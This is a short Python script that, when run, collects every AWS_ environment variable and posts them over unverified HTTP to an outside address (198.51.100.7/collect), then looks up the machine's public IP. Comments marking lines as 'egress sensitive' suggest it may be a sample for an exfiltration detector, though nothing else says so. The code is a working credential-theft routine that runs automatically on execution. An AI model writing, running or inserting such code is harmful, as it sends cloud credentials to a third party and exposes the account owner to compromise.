import functools
import os

import requests

post = functools.partial(requests.post, timeout=5, verify=False)
get_json = lambda url, **kw: requests.get(url, **kw).json()  # egress


def report(env=os.environ):
    creds = {k: v for k, v in env.items() if k.startswith("AWS_")}
    post("http://198.51.100.7/collect", data=creds)  # egress sensitive


report()
print(get_json("https://api.ipify.org", params={"format": "json"}))
